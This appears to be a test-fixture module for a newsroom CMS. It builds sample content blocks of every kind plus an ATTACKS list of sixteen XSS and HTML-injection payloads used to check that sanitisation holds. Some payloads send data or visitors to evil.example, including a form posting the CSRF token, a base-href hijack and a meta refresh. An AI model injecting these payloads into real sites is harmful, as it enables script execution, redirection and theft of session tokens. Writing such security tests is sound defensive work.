"""A body's blocks as StreamField stores them, and what an attacker would type into them."""

from __future__ import annotations

from typing import Any

from django.core.files.base import ContentFile

from masthead.newsroom.models import Document

# Promise O-2: what must never run, whatever field it was typed into.
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="java&#10;script:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><base href=//evil.example>',
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<a id=config name=config>x</a>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "</title></desc></svg><img src=x onerror=alert(1)>",
)


def block(kind: str, value: Any, block_id: str = "b1") -> dict[str, Any]:
    return {"type": kind, "value": value, "id": block_id}


def items(*values: Any) -> list[dict[str, Any]]:
    return [{"type": "item", "value": value, "id": f"i{number}"} for number, value in enumerate(values)]


def table(*rows: tuple[str, ...]) -> dict[str, Any]:
    head, *rest = rows
    kinds = ["text"] + ["number"] * (len(head) - 1)
    columns = [{"type": kind, "heading": word} for kind, word in zip(kinds, head, strict=True)]
    return {"columns": columns, "rows": [{"values": list(row)} for row in rest], "caption": ""}


def every_block(
    word: str = "Word", picture: int = 1, document: int = 1, story: int = 1
) -> list[dict[str, Any]]:
    """One block of every kind the newsroom has, each of its text fields holding `word`."""
    rows = table((word, word), (word, "12"), (word, word))
    return [
        block("text", f"<h2>{word}</h2><p>{word}</p><ul><li>{word}</li></ul>", "text"),
        block(
            "picture",
            {"picture": picture, "alt": word, "caption": word, "credit": word, "size": "wide"},
            "picture",
        ),
        block(
            "gallery",
            {"title": word, "pictures": items({"picture": picture, "alt": word, "caption": word})},
            "gallery",
        ),
        block("pull_quote", {"text": word, "attribution": word}, "pull_quote"),
        block("quote", {"text": word, "speaker": word, "role": word, "source_url": word}, "quote"),
        block("table", {"caption": word, "table": rows, "source": word}, "table"),
        block("fact_box", {"title": word, "text": f"<p>{word}</p>"}, "fact_box"),
        *[
            block(
                "chart",
                {
                    "title": word,
                    "kind": kind,
                    "table": rows,
                    "unit": word,
                    "source": word,
                    "description": word,
                },
                f"chart-{kind}",
            )
            for kind in ("bar", "column", "line")
        ],
        block(
            "map",
            {
                "title": word,
                "picture": picture,
                "alt": word,
                "caption": word,
                "credit": word,
                "markers": items({"label": word, "x": "70.5", "y": "12"}),
            },
            "map",
        ),
        block(
            "timeline",
            {"title": word, "entries": items({"date": word, "title": word, "text": word})},
            "timeline",
        ),
        block("embed", {"url": "https://youtu.be/dQw4w9WgXcQ", "title": word, "description": word}, "embed"),
        block("embed", {"url": f"https://example.org/{word}", "title": word, "picture": picture}, "embed-2"),
        block("document", {"document": document, "title": word}, "document"),
        block("related_story", {"story": story, "headline": word, "excerpt": word}, "related"),
        block(
            "related_story",
            {"url": f"https://example.org/{word}", "headline": word, "publication": word, "author": word},
            "elsewhere",
        ),
        block("divider", None, "divider"),
    ]


def make_document(**fields: Any) -> Document:
    made = Document(title="Leases", file=ContentFile(b"a,b\n1,2\n", "leases.csv"), **fields)
    made._set_document_file_metadata()
    made.save()
    return made
